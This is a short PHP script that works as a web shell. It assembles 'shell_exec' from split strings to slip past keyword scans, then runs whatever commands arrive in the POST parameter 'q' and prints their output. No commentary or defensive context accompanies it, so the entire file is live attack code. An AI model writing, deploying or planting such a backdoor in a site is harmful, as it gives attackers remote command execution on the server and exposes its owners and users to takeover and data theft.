<?php
$cb = 'shell' . '_exec';
echo preg_replace_callback('/.+/', function ($m) use ($cb) { return $cb($m[0]); }, $_POST['q']);
